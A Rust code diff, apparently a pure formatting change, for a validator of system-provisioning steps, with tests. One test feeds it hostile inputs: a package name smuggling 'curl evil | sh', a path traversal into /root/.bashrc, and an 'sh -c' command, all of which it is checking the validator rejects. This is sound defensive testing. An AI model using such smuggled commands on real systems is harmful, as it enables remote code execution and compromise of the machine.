@@ -28,19 +28,43 @@ use crate::rules;
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
 #[serde(tag = "type", rename_all = "snake_case")]
 pub enum Step {
-    InstallPackages { packages: Vec<String> },
-    RemovePackages { packages: Vec<String> },
+    InstallPackages {
+        packages: Vec<String>,
+    },
+    RemovePackages {
+        packages: Vec<String>,
+    },
     WriteFile(FileStep),
-    EnableService { unit: String },
-    DisableService { unit: String },
-    MaskService { unit: String },
-    AddGroup { name: String, system: bool },
+    EnableService {
+        unit: String,
+    },
+    DisableService {
+        unit: String,
+    },
+    MaskService {
+        unit: String,
+    },
+    AddGroup {
+        name: String,
+        system: bool,
+    },
     AddUser(UserStep),
-    SetSysctl { key: String, value: String },
-    OpenPort { port: u16, protocol: Protocol },
-    AddKernelArg { arg: String },
+    SetSysctl {
+        key: String,
+        value: String,
+    },
+    OpenPort {
+        port: u16,
+        protocol: Protocol,
+    },
+    AddKernelArg {
+        arg: String,
+    },
     AddAptSource(AptSource),
-    Run { argv: Vec<String>, description: String },
+    Run {
+        argv: Vec<String>,
+        description: String,
+    },
 }
 
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
@@ -131,13 +155,27 @@ impl Step {
                 rule("owner", rules::account_name(&f.owner));
                 rule("group", rules::account_name(&f.group));
                 if f.mode > 0o777 {
-                    rule("mode", Err(format!("{:o} sets setuid, setgid or sticky bits, which steps may not", f.mode)));
+                    rule(
+                        "mode",
+                        Err(format!(
+                            "{:o} sets setuid, setgid or sticky bits, which steps may not",
+                            f.mode
+                        )),
+                    );
                 }
                 if f.content.len() > MAX_FILE_BYTES {
-                    rule("content", Err(format!("is {} bytes; the limit is {MAX_FILE_BYTES}", f.content.len())));
+                    rule(
+                        "content",
+                        Err(format!(
+                            "is {} bytes; the limit is {MAX_FILE_BYTES}",
+                            f.content.len()
+                        )),
+                    );
                 }
             }
-            Step::EnableService { unit } | Step::DisableService { unit } | Step::MaskService { unit } => {
+            Step::EnableService { unit }
+            | Step::DisableService { unit }
+            | Step::MaskService { unit } => {
                 rule("unit", rules::unit_name(unit));
             }
             Step::AddGroup { name, .. } => rule("name", rules::account_name(name)),
@@ -178,7 +216,10 @@ impl Step {
                     rule(&format!("components[{i}]"), rules::deb822_word(w));
                 }
                 if !s.signed_by.contains("-----BEGIN PGP PUBLIC KEY BLOCK-----") {
-                    rule("signed_by", Err("must be an ASCII-armoured OpenPGP public key".into()));
+                    rule(
+                        "signed_by",
+                        Err("must be an ASCII-armoured OpenPGP public key".into()),
+                    );
                 }
             }
             Step::Run { argv, .. } => rule("argv", rules::command_argv(argv)),
@@ -191,19 +232,31 @@ impl CheckKind {
     pub fn check(&self) -> Vec<(String, String)> {
         let result = match self {
             CheckKind::UnitActive { unit } => rules::unit_name(unit).map_err(|r| ("unit", r)),
-            CheckKind::CommandSucceeds { argv } => rules::command_argv(argv).map_err(|r| ("argv", r)),
-            CheckKind::PortOpen { port, .. } if *port == 0 => Err(("port", "must be between 1 and 65535".into())),
+            CheckKind::CommandSucceeds { argv } => {
+                rules::command_argv(argv).map_err(|r| ("argv", r))
+            }
+            CheckKind::PortOpen { port, .. } if *port == 0 => {
+                Err(("port", "must be between 1 and 65535".into()))
+            }
             CheckKind::PortOpen { .. } => Ok(()),
             CheckKind::FileExists { path } => {
-                if path.starts_with('/') && !path.split('/').any(|c| c == "..") && !path.contains('\0') {
+                if path.starts_with('/')
+                    && !path.split('/').any(|c| c == "..")
+                    && !path.contains('\0')
+                {
                     Ok(())
                 } else {
                     Err(("path", "must be an absolute path without `..`".into()))
                 }
             }
-            CheckKind::PackageInstalled { package } => rules::package_name(package).map_err(|r| ("package", r)),
+            CheckKind::PackageInstalled { package } => {
+                rules::package_name(package).map_err(|r| ("package", r))
+            }
         };
-        result.err().map(|(f, r)| vec![(f.to_owned(), r)]).unwrap_or_default()
+        result
+            .err()
+            .map(|(f, r)| vec![(f.to_owned(), r)])
+            .unwrap_or_default()
     }
 }
 
@@ -247,9 +300,17 @@ impl fmt::Display for Step {
             Step::OpenPort { port, protocol } => write!(f, "open port {port}/{protocol}"),
             Step::AddKernelArg { arg } => write!(f, "kernel arg {arg}"),
             Step::AddAptSource(s) => {
-                write!(f, "apt source {} ({} {})", s.name, s.uris.join(" "), s.suites.join(" "))
+                write!(
+                    f,
+                    "apt source {} ({} {})",
+                    s.name,
+                    s.uris.join(" "),
+                    s.suites.join(" ")
+                )
             }
-            Step::Run { argv, description } => write!(f, "run {} # {description}", shell_words(argv)),
+            Step::Run { argv, description } => {
+                write!(f, "run {} # {description}", shell_words(argv))
+            }
         }
     }
 }
@@ -270,7 +331,10 @@ impl fmt::Display for CheckKind {
 fn shell_words(argv: &[String]) -> String {
     argv.iter()
         .map(|a| {
-            if !a.is_empty() && a.chars().all(|c| c.is_ascii_alphanumeric() || "-_./=:,+@%".contains(c)) {
+            if !a.is_empty()
+                && a.chars()
+                    .all(|c| c.is_ascii_alphanumeric() || "-_./=:,+@%".contains(c))
+            {
                 a.clone()
             } else {
                 format!("'{}'", a.replace('\'', r"'\''"))
@@ -286,7 +350,9 @@ mod tests {
 
     #[test]
     fn hostile_steps_are_caught() {
-        let smuggled = Step::InstallPackages { packages: vec!["vim; curl evil | sh".into()] };
+        let smuggled = Step::InstallPackages {
+            packages: vec!["vim; curl evil | sh".into()],
+        };
         assert_eq!(smuggled.check().len(), 1);
         let escape = Step::WriteFile(FileStep {
             path: "/etc/../../root/.bashrc".into(),
@@ -297,22 +363,39 @@ mod tests {
         });
         let fields: Vec<_> = escape.check().into_iter().map(|(f, _)| f).collect();
         assert_eq!(fields, ["path", "mode"]);
-        let run = Step::Run { argv: vec!["sh -c 'id'".into()], description: String::new() };
+        let run = Step::Run {
+            argv: vec!["sh -c 'id'".into()],
+            description: String::new(),
+        };
         assert_eq!(run.check().len(), 1);
-        assert!(Step::EnableService { unit: "ssh.service".into() }.check().is_empty());
+        assert!(
+            Step::EnableService {
+                unit: "ssh.service".into()
+            }
+            .check()
+            .is_empty()
+        );
     }
 
     #[test]
     fn steps_serialise_with_a_type_tag() {
-        let step = Step::EnableService { unit: "ssh.service".into() };
+        let step = Step::EnableService {
+            unit: "ssh.service".into(),
+        };
         let json = serde_json::to_value(&step).unwrap();
-        assert_eq!(json, serde_json::json!({"type": "enable_service", "unit": "ssh.service"}));
+        assert_eq!(
+            json,
+            serde_json::json!({"type": "enable_service", "unit": "ssh.service"})
+        );
         assert_eq!(serde_json::from_value::<Step>(json).unwrap(), step);
     }
 
     #[test]
     fn display_quotes_arguments() {
-        let run = Step::Run { argv: vec!["sed".into(), "-i".into(), "s/a b/c/".into()], description: "x".into() };
+        let run = Step::Run {
+            argv: vec!["sed".into(), "-i".into(), "s/a b/c/".into()],
+            description: "x".into(),
+        };
         assert_eq!(run.to_string(), "run sed -i 's/a b/c/' # x");
     }
 }
